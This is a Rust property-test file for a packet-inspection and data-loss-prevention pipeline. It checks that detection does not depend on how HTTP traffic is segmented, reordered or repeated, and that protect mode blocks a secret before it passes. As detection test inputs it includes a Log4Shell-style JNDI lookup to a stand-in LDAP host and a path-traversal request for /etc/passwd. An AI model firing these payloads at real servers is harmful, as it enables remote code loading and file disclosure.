@@ -1,0 +1,327 @@
+//! A verdict never depends on how the bytes were cut into packets: HTTP conversations that carry secrets, cut
+//! anywhere, out of order within a window and with repetitions, give the hits of the whole buffers; and what
+//! passes in protect mode never holds a whole secret.
+
+use std::sync::{Arc, OnceLock};
+
+use bench::tcp::{ACK, Ends, From, PSH, SYN};
+use dataplane::decode::LinkType;
+use dataplane::event::{Event, EventSink};
+use dataplane::pipeline::{Pipeline, RxMeta};
+use dataplane::policy::{Mode, Settings};
+use dataplane::verdict::Verdict;
+use dlp_patterns::{Direction, Field, RuleSet, ScanState, default_packs};
+use proptest::collection::vec;
+use proptest::prelude::*;
+
+const CARD: &str = "4111111111111111";
+const KEY: &str = "-----BEGIN RSA PRIVATE KEY-----";
+const LOOKUP: &str = "${jndi:ldap://203.0.113.7/a}";
+/// A request target as sent, and as the rules see it.
+const TARGETS: [(&str, &str); 3] = [
+    ("/index.html", "/index.html"),
+    ("/a?q=%24%7Bjndi:ldap://203.0.113.7/a%7D+b", "/a?q=${jndi:ldap://203.0.113.7/a} b"),
+    ("/files/../../../../etc/passwd", "/files/../../../../etc/passwd"),
+];
+
+fn rules() -> Arc<RuleSet> {
+    static RULES: OnceLock<Arc<RuleSet>> = OnceLock::new();
+    Arc::clone(
+        RULES
+            .get_or_init(|| Arc::new(RuleSet::compile(&default_packs()).expect("the default packs compile"))),
+    )
+}
+
+/// One message: what is sent, and the fields that it consists of.
+#[derive(Clone, Debug)]
+struct Message {
+    from: From,
+    bytes: Vec<u8>,
+    fields: Vec<(Field, Vec<u8>)>,
+}
+
+impl Message {
+    fn request(target: usize, agent: &str, body: &str) -> Message {
+        let (raw, decoded) = TARGETS[target];
+        let headers = format!("Host: a.example\r\nUser-Agent: {agent}\r\nContent-Length: {}\r\n", body.len());
+        let bytes = format!("POST {raw} HTTP/1.1\r\n{headers}\r\n{body}").into_bytes();
+        let fields = vec![
+            (Field::HttpUri, decoded.into()),
+            (Field::HttpHeaders, headers.into_bytes()),
+            (Field::HttpRequestBody, body.into()),
+        ];
+        Message { from: From::Client, bytes, fields }
+    }
+
+    /// With `chunk_bytes` as a chunked body, else with a Content-Length.
+    fn response(body: &str, chunk_bytes: Option<usize>) -> Message {
+        let framing = chunk_bytes
+            .map_or(format!("Content-Length: {}", body.len()), |_| "Transfer-Encoding: chunked".to_owned());
+        let headers = format!("Server: s\r\nContent-Type: text/plain\r\n{framing}\r\n");
+        let mut bytes = format!("HTTP/1.1 200 OK\r\n{headers}\r\n").into_bytes();
+        match chunk_bytes {
+            None => bytes.extend(body.bytes()),
+            Some(chunk_bytes) => {
+                for chunk in body.as_bytes().chunks(chunk_bytes) {
+                    bytes.extend(format!("{:x}\r\n", chunk.len()).bytes());
+                    bytes.extend([chunk, b"\r\n"].concat());
+                }
+                bytes.extend(b"0\r\n\r\n");
+            }
+        }
+        let fields = vec![(Field::HttpHeaders, headers.into_bytes()), (Field::HttpResponseBody, body.into())];
+        Message { from: From::Server, bytes, fields }
+    }
+
+    fn direction(&self) -> Direction {
+        if self.from == From::Client { Direction::ToServer } else { Direction::ToClient }
+    }
+}
+
+/// Rule, field, way, and where in the field the match begins and ends.
+type Found = (u32, Field, Direction, u64, u64);
+
+/// The hits in whole fields, as nobody cut them.
+fn oracle(messages: &[Message]) -> Vec<Found> {
+    let rules = rules();
+    let mut found = Vec::new();
+    for message in messages {
+        for (field, bytes) in &message.fields {
+            let (mut state, mut hits) = (ScanState::default(), Vec::new());
+            rules.begin(&mut state, *field, message.direction());
+            rules.scan(&mut state, bytes, &mut hits).expect("few candidates are alive at once");
+            rules.finish(&mut state, &mut hits);
+            let way = message.direction();
+            found.extend(hits.iter().map(|hit| (rules.rule(hit.rule).id(), *field, way, hit.start, hit.end)));
+        }
+    }
+    found.sort();
+    found
+}
+
+#[derive(Default)]
+struct Alerts(Vec<Found>);
+
+impl EventSink for Alerts {
+    fn emit(&mut self, event: Event<'_>) {
+        if let Event::Alert(alert) = event {
+            let (start, end) = (alert.hit.start, alert.hit.end);
+            self.0.push((alert.rule.id(), alert.field, alert.direction, start, end));
+        }
+    }
+}
+
+/// How a conversation is brought onto the wire.
+#[derive(Clone, Debug)]
+struct Delivery {
+    ends: Ends,
+    sequences: [u32; 2],
+    /// Lengths of the pieces, used round and round.
+    piece_bytes: Vec<usize>,
+    /// In which order the pieces of a window are sent: a number a piece, smallest first.
+    order: Vec<u8>,
+    /// Every so many segments one is sent twice; 0 is never.
+    repeat: usize,
+}
+
+const WINDOW_PIECES: usize = 5;
+
+impl Delivery {
+    /// The segments of the conversation: sender, offset in its stream, payload, frame.
+    fn segments(&self, messages: &[Message]) -> Vec<(From, usize, Vec<u8>, Vec<u8>)> {
+        let mut sent = [0, 0];
+        let mut segments = Vec::new();
+        let mut lengths = self.piece_bytes.iter().cycle();
+        for message in messages {
+            let (own, peer) = (message.from as usize, 1 - message.from as usize);
+            let mut pieces = Vec::new();
+            let mut rest = &message.bytes[..];
+            while !rest.is_empty() {
+                let (piece, tail) =
+                    rest.split_at(rest.len().min(*lengths.next().expect("a cycle never ends")));
+                pieces.push((sent[own], piece));
+                sent[own] += piece.len();
+                rest = tail;
+            }
+            for (window, pieces) in pieces.chunks_mut(WINDOW_PIECES).enumerate() {
+                let mut ranked: Vec<_> = pieces.iter().enumerate().collect();
+                ranked.sort_by_key(|(index, _)| {
+                    self.order[(window * WINDOW_PIECES + index) % self.order.len()]
+                });
+                for (_, (offset, piece)) in ranked {
+                    let sequence =
+                        |end: usize, offset: usize| self.sequences[end].wrapping_add(1 + offset as u32);
+                    let (own, peer) = (sequence(own, *offset), sequence(peer, sent[peer]));
+                    let frame = self.ends.frame(message.from, own, peer, PSH | ACK, piece);
+                    segments.push((message.from, *offset, piece.to_vec(), frame));
+                }
+            }
+        }
+        if self.repeat > 0 {
+            let repeated = segments.iter().enumerate();
+            return repeated
+                .flat_map(|(index, it)| vec![it.clone(); 1 + usize::from(index % self.repeat == 0)])
+                .collect();
+        }
+        segments
+    }
+
+    fn handshake(&self) -> [Vec<u8>; 3] {
+        let [client, server] = self.sequences;
+        let (answered, opened) = (server.wrapping_add(1), client.wrapping_add(1));
+        [
+            self.ends.frame(From::Client, client, 0, SYN, b""),
+            self.ends.frame(From::Server, server, opened, SYN | ACK, b""),
+            self.ends.frame(From::Client, opened, answered, ACK, b""),
+        ]
+    }
+}
+
+/// A pipeline, and the time that it was told.
+struct Bench {
+    pipeline: Pipeline,
+    alerts: Alerts,
+    now_ns: u64,
+}
+
+impl Bench {
+    fn new(mode: Mode) -> Bench {
+        let settings = Settings { mode, flows_max: 1024, ..Settings::default() };
+        Bench { pipeline: Pipeline::new(settings, rules()), alerts: Alerts::default(), now_ns: 0 }
+    }
+
+    fn judge(&mut self, frame: &[u8]) -> Verdict {
+        self.now_ns += 1000;
+        let (now_ns, wire_bytes) = (self.now_ns, frame.len() as u32);
+        let meta = RxMeta { now_ns, link: 0, link_type: LinkType::Ethernet, wire_bytes };
+        self.pipeline.process(&mut frame.to_vec(), meta, &mut self.alerts)
+    }
+}
+
+/// What a receiver has in order of the segments that it got.
+fn in_order(mut got: Vec<(usize, Vec<u8>)>) -> Vec<u8> {
+    got.sort();
+    let mut stream = Vec::new();
+    for (offset, piece) in got {
+        if offset > stream.len() {
+            break;
+        }
+        let known = stream.len() - offset;
+        stream.extend(piece.iter().skip(known));
+    }
+    stream
+}
+
+fn contains(bytes: &[u8], needle: &str) -> bool {
+    bytes.windows(needle.len()).any(|window| window == needle.as_bytes())
+}
+
+fn deliveries() -> impl Strategy<Value = Delivery> {
+    let ends = prop_oneof![
+        Just(("10.0.0.1:40000", "192.0.2.1:80", vec![])),
+        Just(("10.0.0.1:40000", "192.0.2.1:80", vec![7])),
+        Just(("10.0.0.1:40000", "192.0.2.1:80", vec![7, 4094])),
+        Just(("[fd00::1]:40000", "[2001:db8::1]:80", vec![])),
+        Just(("[fd00::1]:40000", "[2001:db8::1]:80", vec![9])),
+    ];
+    let piece_bytes = vec(prop_oneof![1..4usize, 1..40usize, 1..1400usize], 1..12);
+    let sequences = [any::<u32>(), any::<u32>()];
+    (ends, sequences, piece_bytes, vec(any::<u8>(), 1..24), 0..4usize).prop_map(
+        |((client, server, vlans), sequences, piece_bytes, order, repeat)| {
+            let address = |text: &str| text.parse().expect("it is an address");
+            let ends = Ends::new(address(client), address(server), &vlans);
+            Delivery { ends, sequences, piece_bytes, order, repeat }
+        },
+    )
+}
+
+/// Filler that no rule speaks of, around one of `secrets`, or around none.
+fn texts(secrets: &'static [&'static str]) -> impl Strategy<Value = String> {
+    let filler =
+        || vec(prop_oneof![Just("river "), Just("table\n"), Just("4111 "), Just("-----BEG ")], 0..40);
+    (filler(), prop::option::of(prop::sample::select(secrets)), filler()).prop_map(
+        |(before, secret, after)| [&before.concat(), secret.unwrap_or(" "), " ", &after.concat()].concat(),
+    )
+}
+
+fn exchanges() -> impl Strategy<Value = Vec<Message>> {
+    let agents = prop::sample::select(vec!["curl/8.8.0", LOOKUP, "Mozilla/5.0 (${date:x})"]);
+    let request = (0..TARGETS.len(), agents, texts(&[KEY, LOOKUP]))
+        .prop_map(|(target, agent, body)| Message::request(target, agent, &body));
+    let response = (texts(&[CARD, KEY]), prop::option::of(1..50usize))
+        .prop_map(|(body, chunk_bytes)| Message::response(&body, chunk_bytes));
+    vec((request, response), 1..4).prop_map(|pairs| pairs.into_iter().flat_map(|(a, b)| [a, b]).collect())
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 192, ..ProptestConfig::default() })]
+
+    #[test]
+    fn hits_are_those_of_the_whole_buffers(messages in exchanges(), delivery in deliveries()) {
+        let mut bench = Bench::new(Mode::Monitor);
+        for frame in delivery.handshake() {
+            prop_assert_eq!(bench.judge(&frame), Verdict::Forward);
+        }
+        for (_, _, _, frame) in delivery.segments(&messages) {
+            prop_assert_eq!(bench.judge(&frame), Verdict::Forward);
+        }
+        bench.pipeline.finish(bench.now_ns, &mut bench.alerts);
+        bench.alerts.0.sort();
+        prop_assert_eq!(bench.alerts.0, oracle(&messages));
+    }
+
+    #[test]
+    fn what_passes_never_holds_a_whole_secret(
+        before in "[a-z ]{0,200}",
+        after in "[a-z ]{0,3000}",
+        in_request in any::<bool>(),
+        delivery in deliveries(),
+    ) {
+        let secret = if in_request { LOOKUP } else { CARD };
+        let body = format!("{before} {secret} {after}");
+        let messages = match in_request {
+            true => vec![Message::request(0, "curl", &body)],
+            false => vec![Message::request(0, "curl", "plain"), Message::response(&body, None)],
+        };
+        let guilty = messages.last().expect("there is a message").from;
+        let mut bench = Bench::new(Mode::Protect);
+        for frame in delivery.handshake() {
+            prop_assert_eq!(bench.judge(&frame), Verdict::Forward);
+        }
+        let mut passed = Vec::new();
+        let mut resets = 0;
+        for (from, offset, piece, frame) in delivery.segments(&messages) {
+            match bench.judge(&frame) {
+                Verdict::Forward if from == guilty => passed.push((offset, piece)),
+                Verdict::Forward => {}
+                Verdict::Reset(_) => resets += 1,
+                Verdict::Drop(_) => {}
+            }
+        }
+        let stream = in_order(passed);
+        prop_assert_eq!(resets, 1, "the frame that completes the secret is answered, once");
+        prop_assert!(!contains(&stream, secret), "passed: {}", String::from_utf8_lossy(&stream));
+        let counters = bench.pipeline.counters();
+        prop_assert_eq!(counters.frames_in, counters.forwarded + counters.dropped_total());
+    }
+}
+
+#[test]
+fn the_oracle_finds_every_secret_that_is_planted() {
+    let body = |secret: &str| format!("river {secret} table");
+    let count = |message: Message| oracle(&[message]).len();
+    assert_eq!(count(Message::request(0, "curl", "river")), 0);
+    assert_eq!(count(Message::response("river 4111 table", Some(3))), 0);
+    assert!(count(Message::request(1, "curl", "river")) >= 1);
+    assert!(count(Message::request(2, "curl", "river")) >= 1);
+    assert!(count(Message::request(0, LOOKUP, "river")) >= 1);
+    assert!(count(Message::request(0, "curl", &body(KEY))) >= 1);
+    assert!(count(Message::response(&body(CARD), None)) >= 1);
+    assert!(count(Message::response(&body(KEY), Some(5))) >= 1);
+}
+
+#[test]
+fn a_receiver_has_what_came_without_a_gap() {
+    let piece = |offset: usize, text: &str| (offset, text.as_bytes().to_vec());
+    assert_eq!(in_order(vec![piece(3, "def"), piece(0, "abc"), piece(2, "cd"), piece(7, "h")]), b"abcdef");
+}
